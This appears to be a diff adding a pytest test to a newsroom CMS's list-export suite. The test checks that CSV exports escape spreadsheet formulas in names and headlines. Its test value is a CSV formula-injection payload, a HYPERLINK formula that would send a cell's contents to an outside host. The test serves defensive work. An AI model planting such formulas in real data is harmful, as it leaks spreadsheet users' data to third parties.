@@ -1,5 +1,6 @@
 """The desk's lists find, filter and sort, and cost the same for twenty articles as for a hundred."""
 
+import csv
 from datetime import UTC, datetime
 from typing import Any
 
@@ -175,6 +176,18 @@ def test_lists_can_be_taken_away_as_a_table(desk: Any, section: Any, address: st
     assert response.status_code == 200 and content
     if export == "csv" and address == ARTICLES:
         assert "By Inés Carraway" in content.decode()
+
+
+@pytest.mark.parametrize("address", [ARTICLES, AUTHORS, TOPICS, PROMOTIONS])
+def test_a_formula_in_a_name_stays_a_text_in_a_spreadsheet(desk: Any, section: Any, address: str) -> None:
+    formula = '=HYPERLINK("https://example.org/?"&A1)'
+    make_article(section, formula)
+    make_author(formula)
+    make_topic(formula)
+    Promotion.objects.create(headline=formula)
+    response = desk.get(address, {"export": "csv"})
+    rows = list(csv.reader(b"".join(response.streaming_content).decode().splitlines()))
+    assert any(row[0] == f"'{formula}" for row in rows)
 
 
 @pytest.mark.parametrize("kind", ["author", "topic", "promotion", "masthead"])
